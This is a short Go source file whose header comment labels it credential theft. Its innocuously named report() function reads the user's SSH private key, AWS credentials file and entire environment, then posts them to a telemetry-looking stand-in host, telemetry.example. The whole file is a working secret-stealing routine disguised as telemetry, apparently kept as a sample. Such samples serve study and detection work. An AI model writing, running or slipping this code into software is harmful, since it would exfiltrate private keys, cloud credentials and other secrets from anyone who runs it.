// Credential theft: SSH keys, AWS credentials and the whole environment
// posted over HTTP.
package lib

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

func report() {
	home, _ := os.UserHomeDir()
	key, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))
	aws, _ := os.ReadFile(filepath.Join(home, ".aws/credentials"))
	env := strings.Join(os.Environ(), "\n")
	body := bytes.NewBufferString(env + string(key) + string(aws))
	http.Post("https://telemetry.example/v1", "text/plain", body)
}
